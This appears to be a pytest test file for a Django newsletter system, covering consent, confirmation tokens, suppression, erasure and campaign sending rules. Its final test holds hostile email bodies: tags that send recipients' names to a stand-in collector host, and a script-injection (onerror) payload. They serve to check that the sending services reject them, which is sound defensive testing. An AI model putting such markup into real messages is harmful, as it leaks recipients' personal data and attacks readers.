import pytest
from django.core.exceptions import ValidationError

from apps.consents.models import ConsentEvent, ConsentState
from apps.consents.services import consent_grant, consent_withdraw
from apps.core.privacy import RestrictionScope, personal_data_erase, personal_data_restrict
from apps.customers.services import customer_restrict
from apps.marketing import selectors, services
from apps.marketing.models import Campaign, Subscription, SuppressedAddress
from tests.factories import CustomerFactory, move_login_email
from tests.marketing.helpers import campaign, magazine, subscriber

pytestmark = pytest.mark.django_db


@pytest.fixture
def mag():
    return magazine()


def test_member_subscription_is_active_at_once_and_grants_consent(mag):
    customer = subscriber(mag)
    subscription = Subscription.objects.get(customer=customer, magazine=mag)
    assert subscription.status == "active"
    assert subscription.email_hash == selectors.address_hash(customer.email)
    state = ConsentState.objects.get(customer=customer, purpose=mag.purpose)
    assert state.status == "granted" and state.last_event.source == "mypage"


def test_visitor_subscription_needs_the_confirmation_link(
    mag, mailoutbox, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        subscription = services.subscription_request(email="Visitor@Example.com", magazine=mag)
    assert subscription.status == "pending"
    assert not ConsentEvent.objects.filter(customer=subscription.customer).exists()
    [message] = mailoutbox
    assert message.to == ["visitor@example.com"]
    link = next(line for line in message.body.splitlines() if "/newsletter/confirm/" in line)
    token = link.rstrip("/").rsplit("/", 1)[1]
    assert subscription.confirm_token_hash and token not in subscription.confirm_token_hash

    services.subscription_confirm(token=token, ip_address="192.0.2.9")
    subscription.refresh_from_db()
    assert subscription.status == "active"
    event = ConsentEvent.objects.get(customer=subscription.customer)
    assert event.source == "subscribe_form" and event.action == "grant"
    with pytest.raises(ValidationError):
        services.subscription_confirm(token=token)  # used once


def test_a_wrong_confirmation_token_changes_nothing(mag):
    with pytest.raises(ValidationError):
        services.subscription_confirm(token="forged")
    assert not ConsentEvent.objects.exists()


def test_suppressed_visitor_gets_no_mail(mag, mailoutbox, django_capture_on_commit_callbacks):
    services.suppression_add(reason="bounced", address="bounce@example.com")
    with django_capture_on_commit_callbacks(execute=True):
        assert services.subscription_request(email="BOUNCE@example.com", magazine=mag) is None
    assert mailoutbox == [] and not Subscription.objects.exists()


def test_suppressed_member_cannot_subscribe(mag):
    customer = CustomerFactory()
    services.suppression_add(reason="complained", address=customer.email)
    with pytest.raises(ValidationError):
        services.subscription_subscribe_member(customer=customer, magazine=mag)
    assert not Subscription.objects.exists()


def test_suppression_keeps_only_a_keyed_hash(mag):
    services.suppression_add(reason="bounced", address="Someone@Example.com ")
    row = SuppressedAddress.objects.get()
    assert "someone" not in row.address_hash and len(row.address_hash) == 64
    assert selectors.is_suppressed(address="someone@example.com")


def test_unsubscribe_is_immediate_idempotent_and_in_the_ledger(mag):
    customer = subscriber(mag)
    subscription = Subscription.objects.get(customer=customer)
    assert services.subscription_unsubscribe(subscription=subscription) is True
    assert services.subscription_unsubscribe(subscription=subscription) is False
    subscription.refresh_from_db()
    assert subscription.status == "unsubscribed"
    last = ConsentEvent.objects.filter(customer=customer).order_by("-pk").first()
    assert last.action == "withdraw" and last.source == "unsubscribe"
    assert ConsentEvent.objects.filter(customer=customer, action="withdraw").count() == 1
    assert SuppressedAddress.objects.filter(magazine=mag, reason="unsubscribed").count() == 1
    # Subscribing again on My Page is a new, explicit opt-in: it lifts that suppression.
    services.subscription_subscribe_member(customer=customer, magazine=mag)
    assert not SuppressedAddress.objects.exists()
    assert selectors.eligible_count(magazine=mag) == 1


def test_eligibility_obeys_every_rule(mag):
    ok = subscriber(mag)
    withdrawn, restricted, erased, stopped, suppressed = (subscriber(mag) for _ in range(5))
    unsubscribed = subscriber(mag)
    consent_withdraw(purpose=mag.purpose, source="mypage", customer=withdrawn)
    customer_restrict(customer=restricted, reason="Resale")
    personal_data_erase(customer_id=erased.pk)
    personal_data_restrict(customer_id=stopped.pk, scope=RestrictionScope.STOP_USE)
    services.suppression_add(reason="bounced", address=suppressed.email)
    services.subscription_unsubscribe(subscription=Subscription.objects.get(customer=unsubscribed))
    CustomerFactory()  # never subscribed
    eligible = set(
        selectors.eligible_subscriptions(magazine=mag).values_list("customer_id", flat=True)
    )
    assert eligible == {ok.pk}


def test_erasure_suppresses_the_address_and_drops_subscriptions(mag):
    customer = subscriber(mag)
    address = customer.email
    report = personal_data_erase(customer_id=customer.pk)
    assert report.deleted["marketing.Subscription"] == 1
    assert not Subscription.objects.filter(customer=customer).exists()
    assert selectors.is_suppressed(address=address)
    again = personal_data_erase(customer_id=customer.pk)
    assert not again.changed_anything


def test_a_campaign_without_the_legal_footer_settings_cannot_be_sent(mag, settings):
    settings.SHOP_POSTAL_ADDRESS = ""
    c = campaign(mag)
    with pytest.raises(ValidationError) as exc:
        services.campaign_send_now(campaign=c)
    assert "SHOP_POSTAL_ADDRESS" in " ".join(exc.value.messages)
    c.refresh_from_db()
    assert c.status == "draft" and not c.deliveries.exists()


def test_campaign_state_rules(mag):
    from datetime import timedelta

    from django.utils import timezone

    c = campaign(mag)
    with pytest.raises(ValidationError):
        services.campaign_cancel(campaign=c)
    with pytest.raises(ValidationError):
        services.campaign_schedule(campaign=c, at=timezone.now() - timedelta(minutes=1))
    services.campaign_schedule(campaign=c, at=timezone.now() + timedelta(hours=1))
    c.refresh_from_db()
    assert c.status == "scheduled"
    services.campaign_cancel(campaign=c)
    c.refresh_from_db()
    assert c.status == "cancelled"
    with pytest.raises(ValidationError):
        services.campaign_send_now(campaign=c)


def test_email_change_needs_reconfirmation_before_mail(
    mag, mailoutbox, django_capture_on_commit_callbacks
):
    customer = subscriber(mag)
    move_login_email(customer, "moved@example.com")
    subscription = Subscription.objects.get(customer=customer)
    assert subscription.email_hash != selectors.address_hash("moved@example.com")
    with django_capture_on_commit_callbacks(execute=True):
        services.subscription_reconfirm(customer=customer, magazine=mag)
    assert mailoutbox[-1].to == ["moved@example.com"]
    subscription.refresh_from_db()
    assert subscription.status == "pending"


def test_import_skips_suppressed_and_asks_the_rest_to_confirm(
    mag, django_capture_on_commit_callbacks
):
    fine, bounced, empty = CustomerFactory(), CustomerFactory(), CustomerFactory(email="")
    for person in (fine, bounced, empty):  # the import is for people who consented
        consent_grant(purpose=mag.purpose, source="import", customer=person)
    services.suppression_add(reason="bounced", address=bounced.email)
    with django_capture_on_commit_callbacks(execute=True):
        result = services.subscription_import(magazine=mag, customers=[fine, bounced, empty])
    assert result == {"requested": 1, "suppressed": 1, "no_address": 1, "no_consent": 0}
    assert Subscription.objects.get().customer == fine


def test_dispatch_sends_due_scheduled_campaigns(mag, django_capture_on_commit_callbacks):
    from datetime import timedelta

    from django.utils import timezone

    c = campaign(mag)
    services.campaign_schedule(campaign=c, at=timezone.now() + timedelta(seconds=1))
    Campaign.objects.filter(pk=c.pk).update(scheduled_at=timezone.now() - timedelta(seconds=1))
    with django_capture_on_commit_callbacks(execute=True):
        assert services.campaign_dispatch_due() == 1
    c.refresh_from_db()
    assert c.status == "sent"


@pytest.mark.parametrize(
    "fields",
    [
        {"body_html": '<img src="https://collector.example/?n={name}" alt="">'},
        {"body_html": '<a href="https://collector.example/?u={unsubscribe_url}">x</a>'},
        {"body_html": '<p title="{name}">x</p>'},
        {"body_html": '<p>{name}</p><img src="x" onerror="alert(1)">'},  # stored unsanitised
        {"body_text": "https://collector.example/?n={name}"},
        {"subject": "{name} 様へ"},
    ],
)
def test_the_sending_services_refuse_what_the_form_would_refuse(
    mag, fields, smtp_settings, django_capture_on_commit_callbacks
):
    from datetime import timedelta

    from django.utils import timezone

    subscriber(mag)
    c = campaign(mag, **fields)  # straight into the database, past the admin form
    for send in (
        lambda: services.campaign_send_now(campaign=c),
        lambda: services.campaign_schedule(campaign=c, at=timezone.now() + timedelta(hours=1)),
        lambda: services.campaign_send_test(campaign=c, to_address="mkt@shop.test"),
    ):
        with django_capture_on_commit_callbacks(execute=True), pytest.raises(ValidationError):
            send()
    c.refresh_from_db()
    assert c.status == "draft" and not c.deliveries.exists()
    assert smtp_settings.messages == []
    assert services.campaign_problems(c)
